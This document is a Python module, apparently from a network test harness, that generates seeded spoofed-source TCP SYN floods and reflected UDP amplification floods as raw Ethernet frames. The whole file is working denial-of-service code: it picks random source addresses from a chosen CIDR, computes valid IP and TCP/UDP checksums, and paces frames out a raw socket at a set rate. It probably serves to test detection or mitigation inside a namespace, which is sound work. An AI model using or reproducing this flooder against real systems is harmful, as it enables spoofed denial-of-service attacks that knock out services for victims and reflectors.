"""Spoofed-source floods, sent as raw frames from inside a namespace (seeded).

    python -m scenarios.flood syn --iface IF --dst-mac MAC --dst ADDR --dport P
                              --sources CIDR --count N --rate PPS --seed S
    python -m scenarios.flood udp-amp ... --sport 53 --size BYTES

`syn`: TCP SYNs (MSS option, random ISN) from random addresses of `--sources` and
random ephemeral ports. `udp-amp`: the reflected half of an amplification attack,
large UDP responses from source port `--sport` of random reflector addresses of
`--sources` to random ports of the victim `--dst`. The same seed gives the same frames.
"""

from __future__ import annotations

import argparse
import ipaddress
import random
import struct
import time
from pathlib import Path

from pktio.afpacket import RawSocket


def checksum(data: bytes) -> int:
    """The Internet checksum of `data`."""
    if len(data) & 1:
        data += b"\0"
    s: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src: bytes, dst: bytes, proto: int, payload: bytes, ident: int) -> bytes:
    """An IPv4 header (DF, TTL 64) with a valid checksum, then `payload`."""
    hdr = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64, proto, 0, src, dst
    )
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:] + payload


def l4_checksum(src: bytes, dst: bytes, proto: int, seg: bytes) -> int:
    """TCP/UDP checksum over the pseudo-header and `seg`."""
    return checksum(src + dst + struct.pack("!BBH", 0, proto, len(seg)) + seg)


def syn_frame(rng: random.Random, src: bytes, dst: bytes, dport: int, eth: bytes) -> bytes:
    """One SYN with an MSS option from a random ephemeral port."""
    sport = rng.randrange(1024, 65536)
    seg = struct.pack(
        "!HHIIBBHHH", sport, dport, rng.getrandbits(32), 0, 6 << 4, 0x02, 64240, 0, 0
    ) + struct.pack("!BBH", 2, 4, 1460)
    seg = seg[:16] + struct.pack("!H", l4_checksum(src, dst, 6, seg)) + seg[18:]
    return eth + ipv4(src, dst, 6, seg, rng.getrandbits(16))


def udp_frame(
    rng: random.Random, src: bytes, dst: bytes, sport: int, size: int, eth: bytes
) -> bytes:
    """One UDP datagram of `size` payload bytes from `sport` to a random victim port."""
    payload = rng.randbytes(size)
    seg = struct.pack("!HHHH", sport, rng.randrange(1024, 65536), 8 + size, 0) + payload
    seg = seg[:6] + struct.pack("!H", l4_checksum(src, dst, 17, seg) or 0xFFFF) + seg[8:]
    return eth + ipv4(src, dst, 17, seg, rng.getrandbits(16))


def mac(text: str) -> bytes:
    """aa:bb:.. -> 6 bytes."""
    return bytes(int(x, 16) for x in text.split(":"))


def parser() -> argparse.ArgumentParser:
    """The command line."""
    ap = argparse.ArgumentParser(prog="python -m scenarios.flood", description=__doc__)
    ap.add_argument("kind", choices=("syn", "udp-amp"))
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--sport", type=int, default=53)
    ap.add_argument("--size", type=int, default=1200)
    ap.add_argument("--sources", required=True, help="CIDR the spoofed sources come from")
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--rate", type=float, default=2000.0, help="frames per second")
    ap.add_argument("--seed", type=int, required=True)
    return ap


def build_frames(args: argparse.Namespace, own_mac: str) -> list[bytes]:
    """The flood's frames: a function of the arguments (seed included) alone."""
    rng = random.Random(f"flood/{args.kind}/{args.seed}")
    net = ipaddress.IPv4Network(args.sources)
    eth = mac(args.dst_mac) + mac(own_mac) + b"\x08\x00"
    dst = ipaddress.IPv4Address(args.dst).packed
    frames = []
    for _ in range(args.count):
        src = (net.network_address + rng.randrange(1, net.num_addresses - 1)).packed
        if args.kind == "syn":
            frames.append(syn_frame(rng, src, dst, args.dport, eth))
        else:
            frames.append(udp_frame(rng, src, dst, args.sport, args.size, eth))
    return frames


def main(argv: list[str] | None = None) -> int:
    """Send the flood at --rate frames per second."""
    args = parser().parse_args(argv)
    sock = RawSocket(args.iface)
    frames = build_frames(args, Path(f"/sys/class/net/{args.iface}/address").read_text().strip())
    start = time.monotonic()
    for i, frame in enumerate(frames):
        due = start + i / args.rate
        while (now := time.monotonic()) < due:
            time.sleep(min(due - now, 0.001))
        sock.send(frame)
    print(f"sent {len(frames)} frames in {time.monotonic() - start:.2f} s")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
